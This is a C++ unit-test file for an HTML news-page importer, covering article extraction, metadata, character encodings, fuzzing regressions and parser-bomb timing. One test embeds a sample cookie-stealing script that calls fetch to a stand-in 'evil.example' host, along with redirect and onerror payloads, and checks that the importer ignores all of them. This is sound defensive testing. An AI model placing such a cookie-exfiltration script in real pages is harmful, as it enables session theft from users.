#include "core/analysis/Analyzer.h"
#include "core/import/ArticleImporter.h"
#include "core/import/BatchImport.h"
#include "core/import/HtmlCharset.h"
#include "core/import/HtmlImporter.h"
#include "core/import/HtmlMetadata.h"
#include "core/import/ImportError.h"
#include "core/storage/ArticleRepository.h"
#include "core/text/TextOffsets.h"
#include "tests/support/TempLibrary.h"

#include <QDir>

#include <gtest/gtest.h>

#include <algorithm>
#include <chrono>
#include <fstream>
#include <sstream>

using namespace dossier::core;
using dossier::test::TempLibrary;
using dossier::test::writeFile;

namespace {

const std::string kFixtures = std::string(DOSSIER_SOURCE_DIR) + "/tests/fixtures/html/";

std::string readBytes(const std::string& path) {
    std::ifstream in(path, std::ios::binary);
    std::ostringstream s;
    s << in.rdbuf();
    return s.str();
}

std::vector<std::string> paragraphsOf(const std::string& text) {
    std::vector<std::string> out;
    std::size_t from = 0;
    while (from <= text.size()) {
        const std::size_t end = text.find("\n\n", from);
        out.push_back(text.substr(from, end == std::string::npos ? std::string::npos : end - from));
        if (end == std::string::npos) break;
        from = end + 2;
    }
    return out;
}

void expectParagraphs(const ImportedDocument& doc, const std::vector<std::string>& wanted) {
    const auto got = paragraphsOf(doc.text);
    for (const std::string& p : wanted)
        EXPECT_NE(std::find(got.begin(), got.end(), p), got.end())
            << "missing paragraph: " << p << "\n--- text:\n"
            << doc.text;
}

void expectNone(const ImportedDocument& doc, const std::vector<std::string>& clutter) {
    for (const std::string& c : clutter)
        EXPECT_EQ(doc.text.find(c), std::string::npos) << "clutter kept: " << c << "\n--- text:\n"
                                                       << doc.text;
}

// Runs parse and returns how long it took; the page must give a result or an ImportError.
double secondsToParse(const std::string& html, bool* gaveText = nullptr) {
    const auto start = std::chrono::steady_clock::now();
    try {
        const auto doc = HtmlImporter::parse(html, "bomb.html");
        EXPECT_TRUE(isValidUtf8(doc.text));
        if (gaveText) *gaveText = true;
    } catch (const ImportError& e) {
        EXPECT_NE(std::string(e.what()).find("bomb.html"), std::string::npos);
        if (gaveText) *gaveText = false;
    }
    return std::chrono::duration<double>(std::chrono::steady_clock::now() - start).count();
}

std::string repeat(std::string_view s, std::size_t n) {
    std::string out;
    out.reserve(s.size() * n);
    for (std::size_t i = 0; i < n; ++i) out += s;
    return out;
}

const std::string kPara =
    "The harbour authority published its annual report on Monday, showing a rise in traffic of four percent.";

}  // namespace

TEST(HtmlImporter, HandlesWebPageNames) {
    EXPECT_TRUE(HtmlImporter::handles("a.html"));
    EXPECT_TRUE(HtmlImporter::handles("dir/B.HTM"));
    EXPECT_TRUE(HtmlImporter::handles("c.xhtml"));
    EXPECT_FALSE(HtmlImporter::handles("d.txt"));
    EXPECT_FALSE(HtmlImporter::handles("html"));
}

TEST(HtmlImporter, NewsPageWithAllTheClutter) {
    const auto doc = HtmlImporter::readFile(kFixtures + "ledger-dock-strike.html");
    EXPECT_EQ(doc.meta.title, "Dock workers strike over automation plan");
    EXPECT_EQ(doc.meta.author, "Amara Okafor");
    ASSERT_TRUE(doc.meta.published);
    EXPECT_EQ(doc.meta.published->toIso(), "2026-03-04");
    EXPECT_EQ(doc.meta.source, "The Northern Ledger");
    EXPECT_EQ(doc.meta.url,
              "https://www.northernledger.example/business/2026/03/04/dock-workers-strike-automation");
    // Exactly the article, in order, entities decoded.
    const std::vector<std::string> expected{
        "HARWICK — Cargo handling at the Port of Harwick stopped on Wednesday morning as about 1,800 dock "
        "workers "
        "walked out over a plan to replace crane operators with remotely controlled machines.",
        "The Harwick Dockers’ Union said the plan would cut 600 jobs over three years, and that the port’s "
        "owner, "
        "Meridian Terminals, had refused to discuss retraining or a guarantee of redeployment.",
        "Talks collapse after six weeks",
        "Negotiations between the union and the company broke down on Friday after six weeks, according to "
        "both "
        "sides. \"We offered a phased introduction and a training fund,\" a Meridian spokesperson said.",
        "Union organiser Peter Lindqvist called the offer “a redundancy notice with a brochure attached” and "
        "said the "
        "strike would last until Sunday night unless the company returned to the table.",
        "The machines do not get tired, but they do not know the harbour either.",
        "Shipping lines have begun diverting container vessels to the ports of Tilbury and Felixstowe, and "
        "freight "
        "forwarders warned of delays of up to a week for retailers stocking up before Easter.",
        "The transport minister, Helen Castell, urged both sides to accept mediation by the Advisory, "
        "Conciliation "
        "and Arbitration Service and said the government had no plans to intervene directly."};
    EXPECT_EQ(paragraphsOf(doc.text), expected) << doc.text;
    expectNone(doc, {"cookies",
                     "Accept all",
                     "Skip to main",
                     "Culture and lifestyle",
                     "Advertisement",
                     "Home",
                     "Share on",
                     "Copy link",
                     "Related stories",
                     "racing to automate",
                     "Sign up",
                     "inbox",
                     "Trade unions",
                     "Most viewed",
                     "Celebrity chef",
                     "Comments",
                     "always going to happen",
                     "Solidarity",
                     "weird trick",
                     "All rights reserved",
                     "Privacy policy",
                     "Business reporter",
                     "TRACKER",
                     "INLINE_AD_PIXEL",
                     "NOSCRIPT_PIXEL",
                     "STYLE_RULE",
                     "gtm",
                     "Dock workers strike"});
}

TEST(HtmlImporter, JsonLdArrayWithSeveralAuthorsAndNoOpenGraphTitle) {
    const auto doc = HtmlImporter::readFile(kFixtures + "meridian-river-treaty.html");
    EXPECT_EQ(doc.meta.title, "Upstream states sign treaty to share the Varna river");
    EXPECT_EQ(doc.meta.author, "Lucía Fernández, Tomasz Wójcik");
    ASSERT_TRUE(doc.meta.published);
    EXPECT_EQ(doc.meta.published->toIso(), "2025-11-18");
    EXPECT_EQ(doc.meta.source, "Meridian Post");
    EXPECT_EQ(doc.meta.url, "https://meridianpost.example/world/varna-river-treaty-signed");
    expectParagraphs(
        doc, {
                 "Four countries along the Varna signed a treaty on Tuesday that, for the first time, fixes "
                 "how much water "
                 "each may take from the river in a dry summer.",
                 "The agreement, signed in Sarnow after nine years of talks, sets a minimum flow at the "
                 "border of each state "
                 "and creates a joint commission with the power to order cuts when the river falls below it.",
                 "Key points of the treaty:",
                 "A minimum summer flow of 40 cubic metres per second at each border.",
                 "A joint commission that publishes river data every day.",
                 "Arbitration by a panel of three engineers when states disagree.",
                 "Farmers remain sceptical",
                 "Farmers in the lower valley, where irrigation canals ran dry in 2022 and 2023, said the "
                 "minimum flows were "
                 "too low to save the rice harvest in a year like those.",
                 "“A treaty does not make rain,” said Ilinca Marin, who grows rice and sunflowers near the "
                 "delta. “But at "
                 "least now there is a number, and someone to complain to.”",
                 "The treaty must still be ratified by the four national parliaments, which diplomats expect "
                 "to happen by the "
                 "end of next year.",
             });
    EXPECT_TRUE(doc.text.starts_with("Four countries")) << doc.text;
    expectNone(doc, {"privacy",
                     "843 partners",
                     "I accept",
                     "Log in",
                     "Subscribe",
                     "Water diplomacy",
                     "By Lucía",
                     "WhatsApp",
                     "Photograph",
                     "Story continues",
                     "googletag",
                     "free articles",
                     "More on this story",
                     "Drought leaves",
                     "worst drought",
                     "Most read",
                     "Royal wedding",
                     "Meridian Media Group",
                     "SCRIPT_WRITTEN",
                     "PIXEL_IMG",
                     "PREBID"});
}

TEST(HtmlImporter, OldTableLayoutWithOnlyATimeElement) {
    const auto doc = HtmlImporter::readFile(kFixtures + "gazette-council-budget.html");
    EXPECT_EQ(doc.meta.title, "Council approves library and bus budget");
    EXPECT_EQ(doc.meta.author, "Miguel Santos");
    ASSERT_TRUE(doc.meta.published);
    EXPECT_EQ(doc.meta.published->toIso(), "2026-01-22");
    EXPECT_EQ(doc.meta.source, "riversidegazette.example");
    EXPECT_EQ(doc.meta.url, "https://www.riversidegazette.example/local/council-approves-budget");
    EXPECT_EQ(paragraphsOf(doc.text).size(), 5u) << doc.text;
    expectParagraphs(doc, {
                              "RIVERSIDE — The city council voted 7 to 2 on Thursday night to approve a "
                              "budget of $48 million for the "
                              "coming year, keeping the main library open on Sundays and adding two bus "
                              "routes to the east side.",
                              "The budget takes effect on July 1. A second public hearing on the bus routes "
                              "is planned for March at the "
                              "East Side community center.",
                          });
    expectNone(doc, {"Classifieds", "Garage sale", "piano", "Email this story", "Leave a comment",
                     "logged in", "car deals", "Weather", "Copyright", "Posted"});
}

TEST(HtmlImporter, Windows1252PageDecodesCurlyQuotes) {
    const std::string bytes = readBytes(kFixtures + "courier-coalition-cp1252.html");
    ASSERT_NE(bytes.find('\x93'), std::string::npos) << "the fixture must hold raw windows-1252 bytes";
    const auto doc = HtmlImporter::parse(bytes, "courier.html");
    EXPECT_TRUE(isValidUtf8(doc.text));
    EXPECT_EQ(doc.meta.title, "Coalition talks stall over pensions");
    EXPECT_EQ(doc.meta.author, "Renée Dubois");
    ASSERT_TRUE(doc.meta.published);
    EXPECT_EQ(doc.meta.published->toIso(), "2024-10-09");
    EXPECT_EQ(doc.meta.source, "Valley Courier");
    EXPECT_EQ(doc.meta.url, "");
    expectParagraphs(doc, {
                              "“We are not going to sign a programme that asks nurses to work until they are "
                              "sixty-seven,” said José "
                              "Almeida, who leads the Social Democrats’ delegation. “That’s our red line.”",
                              "The Liberal negotiator, Marit Sandø, said the gap was “narrower than it "
                              "looks” and that talks would resume "
                              "after the weekend – possibly with a mediator.",
                          });
    EXPECT_EQ(paragraphsOf(doc.text).size(), 4u) << doc.text;
    expectNone(doc, {"Sponsored", "loans", "Front page", "©", "political correspondent", "doubleclick"});
}

TEST(HtmlImporter, TruncatedPageKeepsWhatWasSaved) {
    const auto doc = HtmlImporter::readFile(kFixtures + "truncated-glacier-report.html");
    EXPECT_EQ(doc.meta.title, "Glacier retreat speeds up in the Kessel range");
    EXPECT_EQ(doc.meta.author, "Jonas Brenner");
    ASSERT_TRUE(doc.meta.published);
    EXPECT_EQ(doc.meta.published->toIso(), "2025-08-30");
    EXPECT_EQ(doc.meta.source, "Alpine Science Daily");
    EXPECT_EQ(doc.meta.url, "https://alpinescience.example/news/kessel-glaciers");
    EXPECT_EQ(paragraphsOf(doc.text).size(), 4u) << doc.text;
    expectParagraphs(doc,
                     {"“What surprised us is not the trend but the pace,” said the lead author, Dr Katrin "
                      "Albers. Warm autumns now extend the melting season by several weeks, she said."});
    expectNone(doc, {"cookie", "Read next", "snow drought", "Climate", "next-sto"});
}

// Found by fuzzing: a page that starts with two byte-order marks (a tool added its own).
// The text starts after both, in UTF-8 and in UTF-16.
TEST(HtmlImporter, PageWithTwoByteOrderMarksStartsAfterBoth) {
    const std::string page = readBytes(kFixtures + "ledger-dock-strike.html");
    const std::string clean = HtmlImporter::parse(page, "page.html").text;
    const std::string twice = "\xEF\xBB\xBF\xEF\xBB\xBF" + page;
    EXPECT_EQ(HtmlCharset::toUtf8(twice), HtmlCharset::toUtf8(page));
    EXPECT_EQ(HtmlImporter::parse(twice, "page.html").text, clean);
    std::string utf16 = "\xFF\xFE\xFF\xFE";  // UTF-16LE, BOM twice
    for (const char c : std::string("<p>Hi</p>")) utf16 += std::string{c, '\0'};
    EXPECT_EQ(HtmlCharset::toUtf8(utf16), "<p>Hi</p>");
}

// Found by fuzzing: an unfinished DOCTYPE inside <noscript> made gumbo leak; the page
// still imports (ParsedHtmlTest checks the memory).
TEST(HtmlImporter, UnfinishedDoctypeInNoscriptKeepsTheArticle) {
    std::string page = readBytes(kFixtures + "ledger-dock-strike.html");
    const std::string clean = HtmlImporter::parse(page, "page.html").text;
    page.insert(page.find("</body>"), "<noscript><!DOCTYPE");
    EXPECT_EQ(HtmlImporter::parse(page, "page.html").text, clean);
}

TEST(HtmlImporter, EveryCutOfAPageGivesATextOrAClearError) {
    const std::string bytes = readBytes(kFixtures + "ledger-dock-strike.html");
    for (std::size_t cut = 0; cut < bytes.size(); cut += 97) {
        try {
            const auto doc = HtmlImporter::parse(std::string_view(bytes).substr(0, cut), "cut.html");
            EXPECT_TRUE(isValidUtf8(doc.text)) << cut;
            EXPECT_TRUE(isValidUtf8(doc.meta.title)) << cut;
        } catch (const ImportError& e) {
            EXPECT_EQ(e.reason(), ImportError::Reason::Empty) << cut << ": " << e.what();
        }
    }
}

TEST(HtmlImporter, PageWithoutArticleTextIsRefused) {
    try {
        HtmlImporter::readFile(kFixtures + "no-article-404.html");
        FAIL() << "a 404 page is no article";
    } catch (const ImportError& e) {
        EXPECT_EQ(e.reason(), ImportError::Reason::Empty);
        EXPECT_NE(std::string(e.what()).find("no-article-404.html"), std::string::npos) << e.what();
        EXPECT_NE(std::string(e.what()).find("no article text"), std::string::npos) << e.what();
    }
}

TEST(HtmlImporter, EmptyBinaryAndOversizedPagesAreRefusedWithTheReason) {
    auto reasonOf = [](const std::string& bytes) {
        try {
            HtmlImporter::parse(bytes, "page.html");
        } catch (const ImportError& e) {
            EXPECT_NE(std::string(e.what()).find("page.html"), std::string::npos);
            return e.reason();
        }
        ADD_FAILURE() << "accepted";
        return ImportError::Reason::Unsupported;
    };
    EXPECT_EQ(reasonOf(""), ImportError::Reason::Empty);
    EXPECT_EQ(reasonOf(" \n\t "), ImportError::Reason::Empty);
    EXPECT_EQ(reasonOf("<html><head><title>Nothing</title></head><body></body></html>"),
              ImportError::Reason::Empty);
    EXPECT_EQ(reasonOf(std::string("\x89PNG\r\n\x1a\n\0\0\0\rIHDR", 16)), ImportError::Reason::Binary);
    EXPECT_EQ(reasonOf(std::string(HtmlImporter::kMaxBytes + 1, 'a')), ImportError::Reason::TooLarge);
}

TEST(HtmlImporter, AMillionNestedTagsFinishQuickly) {
    const std::string open = repeat("<div>", 1'000'000);
    const std::string close = repeat("</div>", 1'000'000);
    bool gaveText = false;
    EXPECT_LT(
        secondsToParse("<html><body>" + open + "<p>" + kPara + "</p>" + close + "</body></html>", &gaveText),
        10.0);
    EXPECT_TRUE(gaveText);
    // Unclosed, self-closed ("/>" means nothing on a <div>) and formatting elements.
    EXPECT_LT(secondsToParse(repeat("<span>", 1'000'000) + kPara), 10.0);
    EXPECT_LT(secondsToParse(repeat("<div/>", 1'000'000) + kPara), 10.0);
    EXPECT_LT(secondsToParse(repeat("<b>", 1'000'000) + kPara), 10.0);
    EXPECT_LT(secondsToParse(repeat("<a href=x>", 500'000) + kPara), 10.0);
    EXPECT_LT(secondsToParse("<svg>" + repeat("<g>", 1'000'000) + "</svg><p>" + kPara), 10.0);
    EXPECT_LT(secondsToParse(repeat("<table><tr><td>", 300'000) + kPara), 10.0);
}

TEST(HtmlImporter, ReopenedFormattingBombFinishesQuickly) {
    // Every unclosed <b> is re-opened inside each later paragraph: quadratic without the guard.
    std::string html;
    for (int i = 0; i < 20'000; ++i) html += "<b id=b" + std::to_string(i) + "><p>" + kPara;
    bool gaveText = false;
    EXPECT_LT(secondsToParse(html, &gaveText), 10.0);
    EXPECT_TRUE(gaveText);
}

TEST(HtmlImporter, HundredThousandAttributesFinishQuickly) {
    std::string tag = "<div";
    for (int i = 0; i < 100'000; ++i) tag += " data-a" + std::to_string(i) + "=\"v\"";
    tag += ">";
    bool gaveText = false;
    EXPECT_LT(secondsToParse("<html><body>" + tag + "<p>" + kPara + "</p></div></body></html>", &gaveText),
              10.0);
    EXPECT_TRUE(gaveText);
}

TEST(HtmlImporter, AMillionFlatElementsAreRefusedNotParsed) {
    try {
        HtmlImporter::parse(repeat("<p>x", 1'000'000), "flat.html");
        FAIL() << "a million paragraphs is no saved article";
    } catch (const ImportError& e) {
        EXPECT_EQ(e.reason(), ImportError::Reason::TooLarge);
        EXPECT_NE(std::string(e.what()).find("flat.html"), std::string::npos);
    }
}

TEST(HtmlImporter, ScriptsStylesAndTemplatesAreInert) {
    const std::string html =
        "<html><head><meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">"
        "<link rel=\"import\" "
        "href=\"https://evil.example/x.html\"><style>body{background:url(https://evil.example)}"
        "</style></head><body><article><p>" +
        kPara +
        "</p>"
        "<script>fetch('https://evil.example/steal?'+document.cookie)</script>"
        "<img src=x onerror=\"alert('ONERROR')\"><iframe srcdoc=\"<p>IFRAME_TEXT</p>\"></iframe>"
        "<template><p>TEMPLATE_TEXT</p></template><object data=\"evil.swf\">OBJECT_TEXT</object>"
        "<p style=\"display:none\">HIDDEN_TEXT</p><div hidden>HIDDEN_ATTR</div></article></body></html>";
    const auto doc = HtmlImporter::parse(html, "inert.html");
    EXPECT_EQ(doc.text, kPara);
}

TEST(HtmlImporter, EncodingsFollowTheDeclaration) {
    const std::string body = "<body><p>" + kPara + " \x93Quoted\x94 caf\xe9.</p></body>";
    // Labels that mean windows-1252 in browsers.
    for (const char* label : {"windows-1252", "ISO-8859-1", "latin1"}) {
        const auto doc =
            HtmlImporter::parse(std::string("<meta charset=\"") + label + "\">" + body, "w.html");
        EXPECT_NE(doc.text.find("“Quoted” café."), std::string::npos) << label << ": " << doc.text;
    }
    // Undeclared and not UTF-8: the legacy default, windows-1252.
    EXPECT_NE(HtmlImporter::parse(body, "u.html").text.find("“Quoted” café."), std::string::npos);
    // Declared UTF-8 but broken: the readable part survives, the result is valid UTF-8.
    const auto broken = HtmlImporter::parse("<meta charset=utf-8>" + body, "b.html");
    EXPECT_TRUE(isValidUtf8(broken.text));
    EXPECT_NE(broken.text.find(kPara), std::string::npos);
    EXPECT_NE(broken.text.find("\xEF\xBF\xBD"), std::string::npos) << "bad bytes become U+FFFD";
    // UTF-16 with a BOM.
    const QString page =
        QStringLiteral("<p>") + QString::fromStdString(kPara) + QStringLiteral(" Zürich.</p>");
    std::string utf16("\xFF\xFE", 2);
    for (const QChar c : page) {
        utf16 += static_cast<char>(c.unicode() & 0xFF);
        utf16 += static_cast<char>(c.unicode() >> 8);
    }
    EXPECT_EQ(HtmlImporter::parse(utf16, "16.html").text, kPara + " Zürich.");
}

// Found by fuzzing (fuzz/corpus/HtmlImporterFuzzer/crash-overflowing-reference.html):
// gumbo's decoder overflowed on references of many digits and wrote bytes that are not
// UTF-8, so the whole page was refused. Such a reference names no character: U+FFFD.
TEST(HtmlImporter, OverlongNumericReferencesBecomeReplacementCharacters) {
    const std::string html = "<html><head><title>Bad &#xD80CCCCC0; title</title>"
                             "<meta name=\"author\" content=\"Ann &#99999999999; Lee\"></head><body><p>" +
                             kPara + " &#xD80CCCCCCCCCCCCCCCCCCCCC0; &#4294967361; &#x0000000041; &#1114111;</p></body></html>";
    const auto doc = HtmlImporter::parse(html, "refs.html");
    EXPECT_EQ(doc.text, kPara + " \uFFFD \uFFFD A \U0010FFFF");
    EXPECT_EQ(doc.meta.title, "Bad \uFFFD title");
    EXPECT_EQ(doc.meta.author, "Ann \uFFFD Lee");
}

// Found by fuzzing (fuzz/corpus/HtmlImporterFuzzer/crash-reference-before-hex-letters.html):
// the replacement reference had no semicolon, so the letters after a decimal reference
// ("&#11141555bbbb") read on as its hex digits and overflowed gumbo again.
TEST(HtmlImporter, ReplacedReferenceEndsWhereTheOriginalEnded) {
    const std::string html = "<html><body><p>" + kPara +
                             " &#11141555bbbb &#99999999999;cafe &#x1234567890Abc; x</p></body></html>";
    const auto doc = HtmlImporter::parse(html, "refs.html");
    EXPECT_EQ(doc.text, kPara + " \uFFFDbbbb \uFFFDcafe \uFFFD x");
}

TEST(HtmlImporter, EveryFixtureGivesValidUtf8) {
    for (const QString& name :
         QDir(QString::fromStdString(kFixtures)).entryList({QStringLiteral("*.html")})) {
        const std::string path = kFixtures + name.toStdString();
        try {
            const auto doc = HtmlImporter::readFile(path);
            EXPECT_TRUE(isValidUtf8(doc.text)) << path;
            for (const std::string* s : {&doc.meta.title, &doc.meta.author, &doc.meta.source, &doc.meta.url})
                EXPECT_TRUE(isValidUtf8(*s)) << path;
            EXPECT_FALSE(doc.meta.title.empty()) << path;
            EXPECT_EQ(doc.text.find("\n\n\n"), std::string::npos) << path;
        } catch (const ImportError& e) {
            EXPECT_EQ(name, QStringLiteral("no-article-404.html")) << e.what();
        }
    }
}

TEST(HtmlImporter, TitleSuffixesAreStripped) {
    EXPECT_EQ(HtmlMetadata::cleanTitle("Ministers agree deal | The Daily Ledger", ""),
              "Ministers agree deal");
    EXPECT_EQ(HtmlMetadata::cleanTitle("Ministers agree deal - Ledger", "Ledger"), "Ministers agree deal");
    EXPECT_EQ(HtmlMetadata::cleanTitle("Talks fail - again", ""), "Talks fail - again");
    EXPECT_EQ(HtmlMetadata::hostOf("https://www.example.org/a?b=c"), "example.org");
    EXPECT_EQ(HtmlMetadata::hostOf("/relative/path"), "");
}

TEST(HtmlImporter, ArticleImporterStoresAPageWithItsMetadata) {
    TempLibrary t;
    Analyzer analyzer;
    ArticleImporter importer(t.library(), analyzer);
    const auto r = importer.importFile(kFixtures + "ledger-dock-strike.html");
    EXPECT_TRUE(r.added);
    const auto a = t.library().articles().get(r.id);
    ASSERT_TRUE(a);
    EXPECT_EQ(a->meta.title, "Dock workers strike over automation plan");
    EXPECT_EQ(a->meta.author, "Amara Okafor");
    EXPECT_EQ(a->meta.source, "The Northern Ledger");
    ASSERT_TRUE(a->meta.published);
    EXPECT_EQ(a->meta.published->toIso(), "2026-03-04");
    EXPECT_TRUE(a->text.starts_with("HARWICK — Cargo handling")) << a->text;
    // A refused page leaves the library as it was.
    EXPECT_THROW(importer.importFile(kFixtures + "no-article-404.html"), ImportError);
    EXPECT_EQ(t.library().articles().count(), 1);
}

TEST(HtmlImporter, FoldersIncludeSavedPages) {
    const auto files = BatchImport::expand({kFixtures});
    EXPECT_EQ(
        std::count_if(files.begin(), files.end(), [](const std::string& f) { return f.ends_with(".html"); }),
        6);
}
